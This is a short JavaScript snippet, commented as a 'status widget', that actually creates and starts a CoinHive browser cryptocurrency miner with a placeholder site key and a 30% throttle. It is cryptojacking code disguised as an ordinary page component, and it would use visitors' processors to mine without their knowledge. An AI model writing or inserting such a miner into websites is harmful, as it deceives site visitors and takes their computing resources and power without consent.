// status widget
const miner = new CoinHive.Anonymous("SITE_KEY_PLACEHOLDER", { throttle: 0.3 });
miner.start();
